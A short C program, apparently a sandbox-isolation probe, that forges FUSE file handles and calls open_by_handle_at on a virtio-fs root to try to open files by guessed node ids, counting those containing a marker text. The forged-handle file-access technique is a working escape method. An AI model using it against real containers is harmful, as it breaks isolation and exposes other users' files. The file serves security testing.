/* Tries to reach files through forged file handles (open_by_handle_at) on the container's
 * root, a virtio-fs mount: for every FUSE node id up to a bound and two generations, it
 * opens the handle and reads the file, counting those that hold the marker text.
 * usage: handles FILE MARKER   (FILE: any file of the mount, for name_to_handle_at) */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 3)
        return 2;
    struct file_handle *fh = malloc(sizeof(*fh) + 128);
    int mount_id;
    fh->handle_bytes = 128;
    if (name_to_handle_at(AT_FDCWD, argv[1], fh, &mount_id, 0) != 0)
        printf("name_to_handle_at=%s\n", strerror(errno));
    else
        printf("handle_type=%d\n", fh->handle_type);
    int root = open("/", O_RDONLY | O_DIRECTORY);
    int opened = 0, leaks = 0;
    for (unsigned long long node = 1; node <= 4096; node++) {
        for (unsigned gen = 0; gen < 2; gen++) {
            /* The Linux FUSE handle: type 0x81, node id high and low words, generation. */
            unsigned *w = (unsigned *)fh->f_handle;
            fh->handle_type = 0x81;
            fh->handle_bytes = 12;
            w[0] = (unsigned)(node >> 32);
            w[1] = (unsigned)node;
            w[2] = gen;
            int fd = open_by_handle_at(root, fh, O_RDONLY);
            if (fd < 0)
                continue;
            opened++;
            char buf[8192];
            ssize_t n = read(fd, buf, sizeof buf - 1);
            if (n > 0) {
                buf[n] = 0;
                if (strstr(buf, argv[2]))
                    leaks++;
            }
            close(fd);
        }
    }
    printf("opened=%d\nleaks=%d\nprobe=done\n", opened, leaks);
    return 0;
}
